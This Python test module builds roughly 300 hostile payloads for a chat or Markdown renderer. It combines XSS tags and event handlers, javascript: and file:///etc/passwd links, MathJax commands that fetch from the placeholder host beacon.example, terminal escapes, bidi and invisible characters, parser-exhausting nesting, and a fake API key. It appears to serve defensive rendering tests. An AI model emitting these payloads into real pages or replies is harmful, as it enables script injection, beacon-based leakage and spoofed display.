r"""Text that a hostile model, host or gateway would send: some 300 payloads, composed of a few parts.

JS stands for a script and BEACON for an address that would learn of a fetch; `armed` puts them in.
"""

from __future__ import annotations

from itertools import product

SCRIPT, ADDRESS = "alert(1)", "http://beacon.example"
KEY = "sk-0123456789abcdefWXYZ"

# Markup, and what may stand around it.
_TAGS = [
    "<script>JS</script>", "<script src=BEACON/s.js></script>", '<img src=x onerror="JS">',
    "<img/src='BEACON/i'>", "<svg onload=JS><image href=BEACON/v /></svg>",
    "<iframe srcdoc='<script>JS</script>'>", "<math><mtext><mglyph><style><img src=x onerror=JS>",
    "<details open ontoggle=JS>", "<form action=BEACON><button autofocus onfocus=JS>",
    "<style>@import 'BEACON/c';*{background:url(BEACON/b)}</style>", "<link rel=stylesheet href=BEACON/l>",
    "<meta http-equiv=refresh content='0;url=BEACON'>", "<base href=BEACON/>",
    "<p style='position:fixed;inset:0'>over</p>", "<a href='javascript:JS'>a</a>", "<!--><img onerror=JS src>-->",
]  # fmt: skip
_AROUND = [
    "{}", "</p></div></details>{}", "</code></pre>{}", '">{}', "`{}", "```{}\nx\n```", "```\n{}", "> - {}",
    "|a|\n|-|\n|{}|",
]  # fmt: skip
# Addresses, and how Markdown links to them.
_ADDRESSES = [
    "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "java&NewLine;script:JS", "&#106;avascript:JS",
    "\x01javascript:JS", "vbscript:JS", "data:text/html,<script>JS</script>", "file:///etc/passwd",
    "//beacon.example/x", "/tree?token=1", "BEACON/x", "BEACON/'onmouseover='JS",
    "mailto:a@b.example?cc=c@d.example&body=x",
]  # fmt: skip
_LINKS = ["[a]({})", "![a](<{}>)", "<{}>", "[a][r]\n\n[r]: {} 'JS'", "[![a]({})]({})"]
# What MathJax would obey, and how it is told a formula.
_COMMANDS = [
    r"\unicode[x;background:url(BEACON/u)]{65}", r"\href{javascript:JS}{x}", r"\style{background:url(BEACON)}{x}",
    r"\class{x}{y}", r"\cssId{x}{y}", r"\bbox[background:url(BEACON/b)]{x}",
    r'\mmlToken{mi}[mathbackground="url(BEACON/m)"]{x}', r"\color{red;background:url(BEACON/c)}{x}",
    r"\cellcolor{url(BEACON/d)}x", r"\let\times\div", r"\def\x{\href{BEACON}{y}}\x", r"\gdef\alpha{\beta}",
    r"\newcommand{\pi}{3}", r"\require{html}", r"\includegraphics{BEACON/g}", r"\newcolumntype{c}{l}",
    r"\label{a}\tag{JS}", r"\rule{99999em}{9999em}", r"</span><img src=x onerror=JS>",
]  # fmt: skip
_DOLLARS = ["${}$", "$${}$$", r"\({}\)", "\\[\n{}\n\\]", r"\begin{{equation}}{}\end{{equation}}"]
# What a terminal obeys, what reorders a line, and what nobody sees.
_SIGNS = [
    "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;BEACON\x07a\x1b]8;;\x07", "\x9b31m", "\x9d52;c;QQ==\x9c", "\rover",
    "\x08\x08\x08", "\x00", "\x7f", "\x85", "\u202ereversed", "\u2066a\u2069", "\u202a\u202ba\u202c", "a\u200bb",
    "\u2060a\ufeff", "a\u00adb", "\U000e0041\U000e0042", "\u2028a\u2029", "\ud800", "\u115f", "a\u200db",
]  # fmt: skip
_PLACES = ["{}", "`{}`", "```python\n{}\n```", "${}$", "[{}](https://a.example/{})"]
# What is nested or repeated, and ends nowhere.
_SHAPES = [
    "$" + "\\sqrt{" * 200, "\\[" + "\\frac" * 150 + "1" * 150 + "\\]", "$" + "x^{" * 160 + "1" + "}" * 160 + "$",
    "*a " * 300, "> " * 200 + "a", "- " * 200 + "a", "[" * 300, "![" * 200, "(" * 300, "\\(" * 200, "$a" * 200,
    "`" * 300, "``` mcschema\n<!--", "``` cpp\n" + "\n" * 300, "<" * 300, "&" * 300, "|a" * 200 + "\n" + "|-" * 200,
    "[^1]" * 100 + "\n\n[^1]: a", "[a]: b\n" * 100, "{" * 300, '{"a":' * 200, '{"' + "k" * 300, "[" * 300 + "]" * 300,
    "<think>" * 50, "\\begin{array}{c}" * 60, "a\n===\n" * 60,
]  # fmt: skip
_KEYS = [KEY, f"Authorization: Bearer {KEY}", " ".join(KEY), KEY.upper()]

MARKUP = [around.format(tag) for tag, around in product(_TAGS, _AROUND)]
LINKS = [link.replace("{}", address) for address, link in product(_ADDRESSES, _LINKS)]
FORMULAS = [
    dollars.replace("{{", "{").replace("}}", "}").replace("{}", command)
    for command, dollars in product(_COMMANDS, _DOLLARS)
]
SIGNS = [place.replace("{}", sign) for sign, place in product(_SIGNS, _PLACES)]
SHAPES = _SHAPES
KEYS = _KEYS
# Every second one of the two largest products is enough: each part stands in many.
PAYLOADS = [*MARKUP[::2], *LINKS, *FORMULAS, *SIGNS[::2], *SHAPES, *KEYS]


def armed(text: str, script: str = SCRIPT, address: str = ADDRESS) -> str:
    """A payload with its script and its address."""
    return text.replace("JS", script).replace("BEACON", address)
